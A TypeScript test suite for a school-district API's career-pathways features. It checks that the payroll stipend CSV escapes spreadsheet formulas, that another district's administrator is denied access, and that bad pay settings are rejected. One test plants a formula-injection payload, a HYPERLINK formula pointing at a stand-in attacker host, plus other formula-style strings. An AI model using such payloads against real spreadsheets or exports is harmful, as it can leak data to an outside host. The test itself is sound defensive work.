import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { setupTestApp, signedIn } from '#server/test/app.ts';
import { buildDistrict, buildSchool, buildUser, uniqueWord } from '#server/test/builders.ts';

/**
 * Attacks on pathways: a spreadsheet formula smuggled into payroll's CSV through a name or a role's
 * title, another district's administrator reaching this district's people and pay, and bad input.
 */
const t = setupTestApp();

async function buildWorld() {
  const db = t.database.db;
  const north = await buildDistrict(db);
  const far = await buildDistrict(db);
  const elm = await buildSchool(db, north.id);
  const ada = await buildUser(db, { districtId: north.id, role: 'district_admin' });
  const tia = await buildUser(db, { districtId: north.id, schoolId: elm.id });
  const nell = await buildUser(db, { districtId: north.id, schoolId: elm.id });
  const olaf = await buildUser(db, { districtId: far.id, role: 'district_admin' });
  return {
    north,
    tia,
    as: {
      ada: await signedIn(t, ada.id),
      tia: await signedIn(t, tia.id),
      nell: await signedIn(t, nell.id),
      olaf: await signedIn(t, olaf.id),
    },
  };
}

const PERIOD = 'from=2026-01-01&to=2026-01-31';

describe('pathways under attack', () => {
  it('writes formulas in names, titles and staff ids into the stipend CSV as text', async () => {
    const w = await buildWorld();
    const db = t.database.db;
    await db.execute(
      sql`update users set name = ${'=HYPERLINK("https://evil.test/?"&A1,"Tia")'}, sourced_id = '+1-555' where id = ${w.tia.id}`,
    );
    const ladder = await w.as.ada.post('/api/pathways/ladders', {
      ownerOrgId: w.north.id,
      title: `Paid ${uniqueWord()}`,
      roles: [{ title: '@SUM(1+1) coach', stipendCents: 36500, payCode: '-2+3' }],
    });
    expect(ladder.statusCode, ladder.body).toBe(201);
    const roleId = ladder.json().data.roles[0].id;
    const held = await w.as.ada.post(`/api/pathways/roles/${roleId}/holders`, {
      userId: w.tia.id,
      startsOn: '2026-01-01',
      endsOn: '2026-12-31',
    });
    expect(held.statusCode, held.body).toBe(201);

    const csv = await w.as.ada.get(`/api/districts/${w.north.id}/stipends.csv?${PERIOD}`);
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-disposition']).toMatch(/^attachment;/);
    const cells = csv.body.trim().split('\r\n')[1];
    // Every cell that a spreadsheet would run starts with an apostrophe, inside its quotes.
    expect(cells).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Tia"")"`);
    expect(cells).toContain("'+1-555");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'@SUM(1+1) coach");
    expect(cells).not.toMatch(/(^|,)[=+\-@]/);
  });

  it("answers another district's administrator 404 for this district's people, pay and stipends, and changes nothing", async () => {
    const w = await buildWorld();
    const olaf = w.as.olaf;
    for (const res of [
      await olaf.get(`/api/pathways/people/${w.tia.id}`),
      await olaf.post(`/api/pathways/people/${w.tia.id}/experience`, {
        years: 30,
        asOf: '2026-01-01',
        source: 'administrator',
      }),
      await olaf.get(`/api/districts/${w.north.id}/pathway-pay`),
      await olaf.put(`/api/districts/${w.north.id}/pathway-pay`, {
        rolePayCode: 'X',
        mentoringPayCode: 'Y',
        mentoringHourlyCents: 99_999,
      }),
      await olaf.get(`/api/districts/${w.north.id}/stipends.csv?${PERIOD}`),
    ])
      expect(res.statusCode, res.body).toBe(404);
    const pay = (await w.as.ada.get(`/api/districts/${w.north.id}/pathway-pay`)).json().data;
    expect(pay.mentoringHourlyCents).not.toBe(99_999);
  });

  it('refuses bad pay settings naming the field and keeps the old ones', async () => {
    const w = await buildWorld();
    const before = (await w.as.ada.get(`/api/districts/${w.north.id}/pathway-pay`)).json().data;
    const bad = await w.as.ada.put(`/api/districts/${w.north.id}/pathway-pay`, {
      rolePayCode: 'OK',
      mentoringPayCode: 'OK',
      mentoringHourlyCents: -5,
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(bad.json().errors[0].path).toBe('/body/mentoringHourlyCents');
    expect((await w.as.ada.get(`/api/districts/${w.north.id}/pathway-pay`)).json().data).toEqual(before);
  });

  it('shows what a colleague is paid for a role to them and their administrators only', async () => {
    const w = await buildWorld();
    const ladder = await w.as.ada.post('/api/pathways/ladders', {
      ownerOrgId: w.north.id,
      title: `Paid ${uniqueWord()}`,
      roles: [{ title: 'Instructional coach', stipendCents: 36500, payCode: '' }],
    });
    const roleId = ladder.json().data.roles[0].id;
    const today = new Date().toISOString().slice(0, 10);
    const held = await w.as.ada.post(`/api/pathways/roles/${roleId}/holders`, {
      userId: w.tia.id,
      startsOn: today,
      endsOn: new Date(Date.now() + 200 * 86_400_000).toISOString().slice(0, 10),
    });
    expect(held.statusCode, held.body).toBe(201);
    const stipendOf = async (as: typeof w.as.tia) => {
      const leaders = (await as.get('/api/pathways/leaders')).json().data;
      const roles = (await as.get(`/api/pathways/people/${w.tia.id}/roles`)).json().data;
      const mine = (h: { userId: string }) => h.userId === w.tia.id;
      return [leaders.find(mine)?.stipendCents, roles.find(mine)?.stipendCents];
    };
    expect(await stipendOf(w.as.tia)).toEqual([36500, 36500]);
    expect(await stipendOf(w.as.ada)).toEqual([36500, 36500]);
    expect(await stipendOf(w.as.nell)).toEqual([null, null]);
  });
});
